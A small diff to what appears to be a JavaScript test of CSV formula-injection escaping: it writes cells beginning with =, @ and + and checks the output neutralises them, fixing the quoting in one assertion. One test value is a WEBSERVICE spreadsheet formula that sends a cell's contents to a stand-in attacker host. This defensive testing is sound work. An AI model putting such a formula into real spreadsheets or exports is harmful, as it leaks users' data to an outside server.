@@ -114,7 +114,7 @@ return refused.filter(Boolean).length;`,
       stoppedBy: "a sign in front of what is no number",
       code: `await write.csv('a.csv', [{ a: '=WEBSERVICE("https://evil.example/?d="&B2)', b: \
 '@SUM(1)', \
-c: '+1' }]); return files['a.csv'].includes(""'=WEBSERVICE") && \
+c: '+1' }]); return files['a.csv'].includes('"' + "'=WEBSERVICE") && \
 files['a.csv'].includes("'@SUM(1),+1");`,
       told: /"result":true/,
     },
